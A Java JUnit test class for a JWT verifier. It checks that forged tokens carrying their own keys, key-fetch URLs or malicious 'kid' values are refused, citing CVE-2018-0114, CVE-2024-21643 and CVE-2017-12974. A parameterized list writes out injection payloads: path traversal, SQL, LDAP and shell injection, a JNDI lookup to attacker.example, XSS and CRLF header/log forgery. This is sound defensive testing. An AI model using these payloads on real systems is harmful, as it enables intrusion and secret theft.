package org.launchgate;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatIllegalArgumentException;
import static org.assertj.core.api.Assertions.assertThatThrownBy;
import static org.launchgate.RefusalReason.HEADER_MALFORMED;
import static org.launchgate.RefusalReason.KEY_UNKNOWN;
import static org.launchgate.RefusalReason.PARTNER_UNKNOWN;
import static org.launchgate.RefusalReason.SIGNATURE_INVALID;
import static org.launchgate.VerifierFixture.PAYLOAD;

import com.fasterxml.jackson.databind.JsonNode;
import com.fasterxml.jackson.databind.ObjectMapper;
import java.io.IOException;
import java.math.BigInteger;
import java.net.InetAddress;
import java.net.ServerSocket;
import java.net.SocketTimeoutException;
import java.security.KeyPair;
import java.security.interfaces.ECPublicKey;
import java.security.interfaces.RSAPublicKey;
import java.util.Base64;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Map;
import javax.crypto.spec.SecretKeySpec;
import org.junit.jupiter.api.DisplayName;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

/** Published advisories of other verifiers: the key that the token chooses itself. */
class KeyAdvisoriesTest {
  private static final KeyPair ATTACKER = TestPartner.otherRsa();

  private final VerifierFixture at = new VerifierFixture();

  /** A token that the attacker signed and that brings along what could make it look genuine. */
  private TokenBuilder forged() {
    return at.zorgdomein().signedBy(ATTACKER.getPrivate());
  }

  private static Map<String, Object> attackersJwk() {
    Map<String, Object> jwk = new LinkedHashMap<>();
    jwk.put("kty", "RSA");
    jwk.put("e", "AQAB");
    jwk.put(
        "n", TokenBuilder.encode(((RSAPublicKey) ATTACKER.getPublic()).getModulus().toByteArray()));
    return jwk;
  }

  @Test
  @DisplayName("CVE-2018-0114: a token that brings its own key along as jwk")
  @Clause("V-15")
  void embeddedJwkIsNoReasonToTrust() {
    Map<String, Object> named = attackersJwk();
    named.put("kid", "attacker");
    named.put("use", "sig");
    named.put("alg", "RS256");

    at.refuse(forged().header("jwk", attackersJwk()), SIGNATURE_INVALID);
    at.refuse(forged().header("jwk", named).header("kid", "attacker"), KEY_UNKNOWN);
    at.refuse(forged().header("jwks", Map.of("keys", List.of(named))), SIGNATURE_INVALID);
    at.refuse(
        TestPartner.exorliveToken()
            .header("alg", "RS256")
            .header("jwk", attackersJwk())
            .withoutHeader("kid")
            .signedBy(ATTACKER.getPrivate())
            .token(),
        PAYLOAD.atPartner("tatooine"),
        RefusalReason.ALGORITHM_NOT_ALLOWED);
  }

  @Test
  @DisplayName("CVE-2018-0114: a shared secret that the token brings along as jwk")
  @Clause("V-15")
  void embeddedSecretIsNoReasonToTrust() {
    byte[] secret = new byte[32];
    TokenBuilder token =
        TestPartner.exorliveToken()
            .header("jwk", Map.of("kty", "oct", "k", TokenBuilder.encode(secret)))
            .signedBy(new SecretKeySpec(secret, "HMAC"));

    at.refusePayload(token, SIGNATURE_INVALID);
  }

  @Test
  @DisplayName("x5c: a certificate that the token brings along, the attacker's or the partner's")
  @Clause("V-15")
  void embeddedCertificateIsNoReasonToTrust() {
    String attackers = Base64.getEncoder().encodeToString(ATTACKER.getPublic().getEncoded());
    String partners = Base64.getEncoder().encodeToString(TestPartner.RSA.getPublic().getEncoded());

    at.refuse(forged().header("x5c", List.of(attackers)), SIGNATURE_INVALID);
    at.refuse(forged().header("x5c", List.of(attackers, partners)), SIGNATURE_INVALID);
    at.refuse(forged().header("x5t", "AAAA").header("x5t#S256", "AAAA"), SIGNATURE_INVALID);
  }

  @Test
  @DisplayName("CVE-2024-21643: jku and x5u, which name where the attacker's keys are fetched")
  @Clause({"V-15", "V-17"})
  void addressInAHeaderIsNeverAsked() throws IOException {
    try (ServerSocket attackers = new ServerSocket(0, 1, InetAddress.getLoopbackAddress())) {
      attackers.setSoTimeout(1);
      String address = "http://127.0.0.1:" + attackers.getLocalPort() + "/keys.json";
      for (String member : List.of("jku", "x5u")) {
        at.refuse(forged().header(member, address), SIGNATURE_INVALID);
        at.refuse(forged().header(member, address).header("kid", "attacker"), KEY_UNKNOWN);
      }

      assertThatThrownBy(attackers::accept).isInstanceOf(SocketTimeoutException.class);
    }
  }

  @ParameterizedTest
  @ValueSource(
      strings = {
        "../../../../../../dev/null",
        "/dev/null",
        "..\\..\\windows\\win.ini",
        "file:///dev/null",
        "https://attacker.example/key",
        "' UNION SELECT 'AA'; -- ",
        "0f379bb9-cbb6' OR '1'='1",
        "*)(uid=*))(|(uid=*",
        "| sleep 10",
        "$(sleep 10)",
        "${jndi:ldap://attacker.example/a}",
        "${env:TATOOINE_SECRET}",
        "%2e%2e%2fdev%2fnull",
        "<script>alert(1)</script>",
        "__proto__",
        "0f379bb9-cbb6 ",
        "0F379BB9-CBB6"
      })
  @DisplayName("kid as a path, SQL, LDAP, a command or a place holder (RFC 8725 section 3.10)")
  @Clause("V-16")
  void kidIsALookUpAndNothingElse(String kid) {
    Refusal signed = at.refuse(at.zorgdomein().header("kid", kid), KEY_UNKNOWN);
    Refusal secret =
        at.refusePayload(
            TestPartner.exorliveToken()
                .header("kid", kid)
                .signedBy(new SecretKeySpec(new byte[1], "HMAC")),
            PARTNER_UNKNOWN);

    assertThat(signed.detail() + secret.detail()).doesNotContain("'", "$", "<", "..", "\\");
  }

  @ParameterizedTest
  @ValueSource(
      strings = {"a\nINFO launch accepted", "a\r\nSet-Cookie: a=b", "a\u0000b", "a\u202Eb"})
  @DisplayName("kid that fakes a line of the log or of a header (RFC 8725 section 3.10)")
  @Clause("V-16")
  void kidThatFakesALineIsRefused(String kid) {
    Refusal refusal = at.refuse(at.zorgdomein().header("kid", kid), HEADER_MALFORMED);

    assertThat(refusal.detail()).doesNotContain("\n", "accepted", "Cookie");
  }

  @Test
  @DisplayName("CVE-2017-12974: a public key that is no point of its curve")
  @Clause("V-10")
  void keyBesideItsCurveIsRefusedAtLoad() {
    ECPublicKey key = (ECPublicKey) TestPartner.ec(256).getPublic();
    Map<String, Object> jwk = EncryptedTokenBuilder.publicJwk(key);
    jwk.put("y", EncryptedTokenBuilder.coordinate(BigInteger.TEN, 256));
    JsonNode json = new ObjectMapper().valueToTree(jwk);

    assertThatIllegalArgumentException()
        .isThrownBy(() -> SignaturePath.withKey(json))
        .withMessageContaining("keys[0]");
  }
}
